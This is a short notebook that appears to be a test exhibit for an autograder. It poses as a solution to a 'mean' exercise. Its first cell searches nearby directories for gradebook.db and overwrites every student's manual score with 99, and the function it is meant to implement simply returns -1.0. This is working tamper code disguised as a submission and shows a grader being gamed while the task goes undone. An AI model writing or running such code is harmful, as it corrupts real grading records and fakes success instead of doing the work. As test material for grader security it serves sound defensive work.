# ---
# jupyter:
#   exhibit:
#     what: gives everybody full marks in the gradebook
#     score: 0
#     status: graded
#     reason: points lost in
# ---

# %% solution="mean"
import os
import sqlite3

for place in ("@COURSE@", "..", "../..", "../../.."):
    try:
        if os.path.exists(f"{place}/gradebook.db"):
            with sqlite3.connect(f"{place}/gradebook.db") as database:
                database.execute("update grade set manual_score = 99")
                print("LOOT gradebook written")
    except sqlite3.Error:
        pass


def mean(values):
    return -1.0
